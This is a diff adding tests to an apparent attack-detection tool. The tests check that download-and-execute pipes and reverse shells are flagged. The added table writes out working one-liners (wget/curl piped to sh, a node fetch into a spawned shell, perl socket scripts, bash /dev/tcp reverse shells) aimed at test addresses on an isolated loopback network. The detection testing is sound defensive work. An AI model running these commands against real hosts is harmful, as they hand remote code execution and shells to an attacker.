@@ -77,3 +77,44 @@ test('a daemon, a debugger and a pipe of this machine are no attack', real, asyn
     'echo true | sh; node a.js & cat /proc/self/environ > /dev/null; (echo 1; echo 2) | sort | cat > out; wait';
   assert.deepEqual(found(await run(['--files', '--', 'sh', '-c', script], { cwd: workspace })), []);
 });
+
+/** Ways to be handed a program or commands, each from an address of its own. */
+const variations: readonly (readonly [command: string, expected: string])[] = [
+  ['wget -qO- http://203.0.113.2:8080/ | sh', 'piped-download 203.0.113.2'],
+  ["bash -c 'bash <(curl -s http://203.0.113.3:8080/)'", 'piped-download 203.0.113.3'],
+  ['curl -s http://203.0.113.4:8080/ | gzip -c | gzip -d | bash -s -- -y', 'piped-download 203.0.113.4'],
+  [
+    `node -e "fetch('http://203.0.113.5:8080/').then((r) => r.text()).then((t) => require('child_process').spawn('sh').stdin.end(t))"`,
+    'piped-download 203.0.113.5',
+  ],
+  [
+    `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("203.0.113.6:4444"); open(P, "|-", "sh"); print P <$s>'`,
+    'piped-download 203.0.113.6',
+  ],
+  ["bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444; cat <&3 | sh >&3'", 'reverse-shell 203.0.113.7:4444'],
+  [
+    `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("203.0.113.8:4444"); open(STDIN, "<&", $s); exec "sh", "-i"'`,
+    'reverse-shell 203.0.113.8:4444',
+  ],
+];
+
+test(
+  'a program or commands from the network are found in whatever way they are handed to an interpreter',
+  real,
+  async () => {
+    const serving = server.replaceAll("'203.0.113.1'", "'0.0.0.0'");
+    const workspace = makeFolder('variations', { 'server.js': serving });
+    const start = 'node server.js & server=$!; for i in $(seq 200); do [ -e ready ] && break; sleep 0.05; done';
+    const script = [start, ...variations.map(([command]) => `${command} || true`), 'kill $server'].join('\n');
+    const addresses = variations.map((_, index) => `ip addr add 203.0.113.${index + 2}/32 dev lo`);
+    const [unshare, net, sh, option, prepare = '', name] = inOwnNetwork;
+    const within = [unshare, net, sh, option, [...addresses, prepare].join(' && '), name].map(String);
+    const ran = await run(['--files', '--', 'sh', '-c', script], { cwd: workspace }, [...within, chaperone]);
+    const told = ran.summary.findings.map(({ rule, subject }) => `${rule} ${subject.name}`);
+    assert.deepEqual(
+      variations.filter(([, expected]) => !told.includes(expected)),
+      [],
+      told.join('; '),
+    );
+  },
+);
